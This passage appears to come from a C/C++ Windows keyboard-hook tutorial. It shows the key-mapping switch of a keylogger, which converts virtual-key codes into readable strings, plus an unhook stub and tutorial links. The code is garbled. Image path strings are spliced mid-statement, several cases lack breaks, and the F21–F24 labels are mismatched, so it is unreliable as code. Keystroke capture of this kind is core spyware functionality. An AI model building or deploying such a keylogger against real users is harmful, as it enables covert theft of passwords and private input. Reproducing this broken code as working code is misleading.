        // No VM Def in header
    case 0x41: key = caps ? (shift ? "a" : "A") : (shift ? "A" : "a"); break;case 0x42: key = caps ? (shift ? "b" : "B") : (shift ? "B" : "b"); break;
    case 0x43: key = caps ? (shift ? "c" : "C") : (shift ? "C" : "c"); break;
    case 0x44: key = caps ? (shift ? "d" : "D") : (shift ? "D" : "d"); break;
    case 0x45: key = caps ? (shift ? "e" : "E") : (shift ? "E" : "e"); break;
    case 0x46: key = caps ? (shift ? "f" : "F") : (shift ? "F" : "f"); break;
    case 0x47: key = caps ? (shift ? "g" : "G") : (shift ? "G" : "g"); break;
    case 0x48: key = caps ? (shift ? "h" : "H") : (shift ? "H" : "h"); break;
    case 0x49: key = caps ? (shift ? "i" : "I") : (shift ? "I" : "i"); break;
    case 0x4A: key = caps ? (shift ? "j" : "J") : (shift ? "J" : "j"); break;
    case 0x4B: key = caps ? (shift ? "k" : "K") : (shift ? "K" : "k"); break;
    case 0x4C: key = caps ? (shift ? "l" : "L") : (shift ? "L" : "l"); break;
    case 0x4D: key = caps ? (shift ? "m" : "M") : (shift ? "M" : "m"); break;
    case 0x4E: key = caps ? (shift ? "n" : "N") : (shift ? "N" : "n"); break;
    case 0x4F: key = caps ?(shift ? "o" : "O") : (shift ? "O" : "o"); break;
    case 0x50: key = caps ? (shift ? "p" : "P") : (shift ? "P" : "p"); break;
    case 0x51: key = caps ? (shift ? "q" : "Q") : (shift ? "Q" : "q"); break;
    case 0x52: key = caps ? (shift ? "r" : "R") : (shift ? "R" : "r"); break;
    case 0x53: key = caps ? (shift ? "s" : "S") : (shift ? "S" : "s"); break;
    case 0x54: key = caps ? (shift ? "t" : "T") : (shift ? "T" : "t"); break;
    case 0x55: key = caps ? (shift ? "u" : "U") : (shift ? "U" : "u"); break;
    case 0x56: key = caps ? (shift? "v" : "V") : (shift ? "V" : "v"); break;
    case 0x57: key = caps ? (shift ? "w" : "W") : (shift ? "W" : "w"); break;
    case 0x58: key = caps ? (shift ? "x" : "X") : (shift ? "X" : "x"); break;
    case 0x59: key = caps ? (shift ? "y" : "Y") : (shift ? "Y" : "y"); break;
    case 0x5A: key = caps ? (shift ? "z" : "Z") : (shift ? "Z" : "z"); break;
        // Sleep Key
    case VK_SLEEP: key = "[SLEEP]"; break;
        // Num Keyboard
    case VK_NUMPAD0:  key = "0"; break;
    case VK_NUMPAD1:  key = "1"; break;
    case VK_NUMPAD2: key = "2"; break;
    case VK_NUMPAD3:  key = "3"; break;
    case VK_NUMPAD4:  key = "4"; break;
    case VK_NUMPAD5:  key = "5"; break;
    case VK_NUMPAD6:  key = "6"; break;
    case VK_NUMPAD7:  key = "7"; break;
    case VK_NUMPAD8:  key = "8"; break;
    case VK_NUMPAD9:  key = "9"; break;
    case VK_MULTIPLY: key = "*"; break;
    case VK_ADD:      key = "+"; break;
    case VK_SEPARATOR: key = "-"; break;
    case VK_SUBTRACT: key = "-"; break;
    case VK_DECIMAL:  key = "."; break;
    case VK_DIVIDE:   key = "/"; break;
        // Function Keys
    case VK_F1:  key = "[F1]"; break;case VK_F2:  key = "[F2]"; break;
    case VK_F3:  key = "[F3]"; break;
    case VK_F4:  key = "[F4]"; break;
    case VK_F5:  key = "[F5]"; break;
    case VK_F6:  key = "[F6]"; break;
    case VK_F7:  key = "[F7]"; break;
    case VK_F8:  key = "[F8]"; break;
    case VK_F9:  key = "[F9]"; break;
    case VK_F10:  key = "[F10]"; break;
    case VK_F11:  key = "[F11]"; break;
    case VK_F12:  key = "[F12]"; break;
    case VK_F13:  key = "[F13]"; break;
    case VK_F14:  key = "[F14]"; break;
    case VK_F15:  key = "[F15]"; break;
    case VK_F16:  key = "[F16]"; break;
    case VK_F17:  key = "[F17]"; break;
    case VK_F18:  key = "[F18]"; break;
    case VK_F19:  key = "[F19]"; break;
    case VK_F20:  key = "[F20]"; break;
    case VK_F21:  key = "[F22]"; break;
    case VK_F22:  key = "[F23]"; break;
    case VK_F23:  key = "[F24]"; break;
    case VK_F24:  key = "[F25]"; break;
        // Keys
    case VK_NUMLOCK: key = "[NUM-LOCK]"; break;
    case VK_SCROLL:  key = "[SCROLL-LOCK]"; break;
    case VK_BACK:    key = "[BACK]"; break;
    case VK_TAB:     key = "[TAB]"; break;
    case VK_CLEAR:   key = "[CLEAR]"; break;
    case VK_RETURN:  key = "[ENTER]"; break;
    case VK_SHIFT:   key = "[SHIFT]"; break;
    case VK_CONTROL: key = "[CTRL]"; break;
    case VK_MENU:    key = "[ALT]"; break;case VK_PAUSE:   key = "[PAUSE]"; break;
    case VK_CAPITAL: key = "[CAP-LOCK]"; break;
    case VK_ESCAPE:  key = "[ESC]"; break;
    case VK_SPACE:   key = "[SPACE]"; break;
    case VK_PRIOR:   key = "[PAGEUP]"; break;
    case VK_NEXT:    key = "[PAGEDOWN]"; break;
    case VK_END:     key = "[END]"; break;
    case VK_HOME:    key = "[HOME]"; break;
    case VK_LEFT:    key = "[LEFT]"; break;
    case VK_UP:      key = "[UP]"; break;
    caseVK_RIGHT:   key = "[RIGHT]"; break;
    case VK_DOWN:    key = "[DOWN]"; break;
    case VK_SELECT:  key = "[SELECT]"; break;
    case VK_PRINT:   key = "[PRINT]"; break;
    case VK_SNAPSHOT: key = "[PRTSCRN]"; break;
    case VK_INSERT:  key = "[INS]"; break;
    case VK_DELETE:  key = "[DEL]"; break;
    case VK_HELP:    key = "[HELP]"; break;
        // Number Keys with shift
    case 0x30:  key = shift ? "!" : "1"; break;
    case 0x31:  key = shift ? "@" : "2"; break;case 0x32:  key = shift ? "#" : "3"; break;
    case 0x33:  key = shift ? "$" : "4"; break;
    case 0x34:  key = shift ? "%" : "5"; break;
    case 0x35:  key = shift ? "^" : "6"; break;
    case 0x36:  key = shift ? "&" : "7"; break;
    case 0x37:  key = shift ? "*" : "8"; break;
    case 0x38:  key = shift ? "(" : "9"; break;
    case 0x39:  key = shift ? ")" : "0"; break;
        // Windows Keys
    case VK_LWIN:     key = "[WIN]"; break;
    case VK_RWIN:     key = "[WIN]"; break;
    case VK_LSHIFT:   key = "[SHIFT]"; break;
    case VK_RSHIFT:   key = "[SHIFT]"; break;
    case VK_LCONTROL: key = "[CTRL]"; break;
    case VK_RCONTROL: key = "[CTRL]"; break;
        // OEM Keys with shift
    case VK_OEM_1:      key = shift ? ":" : ";"; break;
    case VK_OEM_PLUS:   key = shift ? "+" : "="; break;
    case VK_OEM_COMMA:  key = shift ? "<" : ","; break;
    case VK_OEM_MINUS:  key = shift ? "_" : "-"; break;
    case VK_OEM_PERIOD: key = shift ? ">" : "."; break;
    case VK_OEM_2:      key = shift ? "?" : "/"; break;
    case VK_OEM_3:      key = shift ? "~" : "`"; break;
    case VK_OEM_4:      key = shift ? "{" : "["; break;
    case VK_OEM_5:      key = shift ? "\\" : "|"; break;
    case VK_OEM_6:      key = shift ? "}" : "]"; break;case VK_OEM_7:      key = shift ? "'" : "'"; break; //TODO: Escape this char: "
                                                        // Action Keys
    case VK_PLAY:       key = "[PLAY]";
    case VK_ZOOM:       key = "[ZOOM]";
    case VK_OEM_CLEAR:  key = "[CLEAR]";
    case VK_CANCEL:     key = "[CTRL-C]";

    default: key = "[UNK-KEY]";
    return key;

The keyboard hook() function releases a keyboard hook
 Return value: void
void unhookKeyboard()
    if (kKeyboardHook != 0)

reference material

[windows core programming] use of systemmessages and custom hooks

HOOK tutorial 1_ Windows message HOOK using SetWindowsHookEx


After that, we will continue to update the hook series.Topics: C C++ Windows visualstudio